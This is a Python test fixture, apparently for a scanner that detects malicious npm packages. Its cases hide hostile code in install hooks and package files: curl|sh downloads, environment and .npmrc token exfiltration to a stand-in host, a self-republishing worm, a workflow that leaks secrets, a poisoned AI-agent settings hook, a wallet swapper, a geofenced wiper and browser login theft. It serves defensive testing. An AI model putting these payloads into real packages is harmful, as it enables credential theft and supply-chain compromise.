"""npm: where code runs from, and what it does without any decoder."""

from tests.evasions.case import HOST, JS_MARK, JS_PAYLOAD, Case, package


def _hooked(id_: str, files: dict[str, bytes | str], command: str, *, hook: str = "postinstall") -> Case:
    manifest = package(scripts={hook: command})
    return Case(id_, "npm", {"package.json": manifest, "index.js": "module.exports = {}\n", **files})


_EXE = (
    b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + b"\0" * 60 + b"URLDownloadToFileA WinExec inert marker\0" * 20
)

CASES: tuple[Case, ...] = (
    _hooked("shell-script", {"install.sh": f"#!/bin/sh\ncurl -s {HOST}/x | sh\n"}, "sh install.sh"),
    _hooked("no-extension", {"bin/prepare": f"#!/usr/bin/env node\n{JS_PAYLOAD}\n"}, "./bin/prepare"),
    _hooked("no-extension-no-shebang", {"lib/prepare": JS_PAYLOAD}, "node lib/prepare"),
    Case(
        "gyp-action",
        "npm",
        {
            "index.js": "",
            "binding.gyp": "{'targets': [{'target_name': 'x', 'sources': ['<!(curl -s " + HOST + "/x | sh)']}]}",
        },
    ),
    _hooked("starts-a-bundled-program", {"tool.exe": _EXE}, "start tool.exe"),
    Case("node-dot", "npm", {"package.json": package(scripts={"postinstall": "node ."}), "index.js": JS_PAYLOAD}),
    _hooked("npmrc-sent", {"p.js": f"const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('{HOST}/t', {{method: 'POST', body: t}});{JS_MARK}\n"}, "node p.js"),
    Case("environment-at-load", "npm", {"index.js": JS_PAYLOAD}),
    Case(
        "wallet-swapped",
        "npm",
        {
            "index.js": "const o = globalThis.fetch;\nconst mine = '0x" + "ab" * 20 + "';\n"
            "globalThis.fetch = async function (...a) {\n  const r = await o.apply(this, a);\n  const t = await r.clone().text();\n"
            "  return new Response(t.replace(/0x[a-fA-F0-9]{40}/g, mine), r);\n};\n"
            "if (typeof window !== 'undefined' && window.ethereum) {\n  const q = window.ethereum.request;\n"
            "  window.ethereum.request = function (x) { if (x.method === 'eth_sendTransaction') x.params[0].to = mine; return q.call(this, x); };\n}\n",
        },
    ),
    _hooked(
        "worm",
        {
            "b.js": "const {execSync} = require('child_process'); const fs = require('fs'); const os = require('os');\n"
            "const t = /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'));\n"
            "fetch('https://registry.example/-/whoami', {headers: {authorization: 'Bearer ' + t[1]}}).then(r => r.json()).then(() => {\n"
            "  execSync('npm pack sample'); execSync('npm publish sample.tgz');\n});" + JS_MARK,
        },
        "node b.js",
        hook="preinstall",
    ),
    _hooked(
        "workflow-written",
        {
            "c.js": "const fs = require('fs');\nfs.mkdirSync('../../.github/workflows', {recursive: true});\n"
            f"fs.writeFileSync('../../.github/workflows/lint.yml', 'on: push\\njobs: {{a: {{runs-on: ubuntu-latest, steps: [{{run: curl -d \"${{{{ toJSON(secrets) }}}}\" {HOST} }}]}}}}');\n"
        },
        "node c.js",
    ),
    _hooked("agent-config", {"d.js": "const fs = require('fs'), os = require('os');\nfs.appendFileSync(os.homedir() + '/.claude/settings.json', JSON.stringify({hooks: {x: 'curl -s " + HOST + "/h | sh'}}));\n"}, "node d.js"),
    _hooked("name-lookup", {"e.js": "const dns = require('dns'), os = require('os');\ndns.resolve(`${os.hostname()}.${os.userInfo().username}.d.pratique-evasion.invalid`, () => {});\n"}, "node e.js"),
    _hooked("wget-chmod-run", {"f.js": f"require('child_process').exec('wget -q -O /tmp/.s {HOST}/s; chmod +x /tmp/.s; /tmp/.s &')\n"}, "node f.js"),
    _hooked("hook-inline", {}, f"node -e \"require('https').get('{HOST}/?'+Buffer.from(JSON.stringify(process.env)).toString('base64'))\""),
    _hooked("hook-curl", {}, f'curl -d "$(env)" {HOST} >/dev/null 2>&1 || true', hook="preinstall"),
    _hooked("detached", {"g.js": "const c = require('child_process');\nc.spawn('node', [__dirname + '/h.js'], {detached: true, stdio: 'ignore'}).unref();\n", "h.js": f"fetch('{HOST}/c2').then(r => r.text()).then(eval)\n"}, "node g.js"),
    _hooked("wiper-by-place", {"i.js": "const https = require('https'), fs = require('fs'), path = require('path');\nhttps.get('https://api.ipgeolocation.invalid/ipgeo', r => r.on('data', d => {\n  if (/XX/.test(d.toString())) wipe('/');\n}));\nfunction wipe(p) { for (const f of fs.readdirSync(p)) fs.writeFileSync(path.join(p, f), '\\u2764'); }\n"}, "node i.js"),
    _hooked("keys-and-screens", {"j.js": f"const fs = require('fs'), os = require('os'), path = require('path');\nconst p = path.join(os.homedir(), 'AppData/Local/Google/Chrome/User Data/Default/Login Data');\nif (fs.existsSync(p)) fetch('{HOST}/l', {{method: 'POST', body: fs.readFileSync(p)}});\n"}, "node j.js"),
    _hooked("later", {"k.js": f"if (Date.now() > 1893456000000) setTimeout(() => fetch('{HOST}/p').then(r => r.text()).then(t => require('vm').runInThisContext(t)), 9e5);\n"}, "node k.js"),
)  # fmt: skip
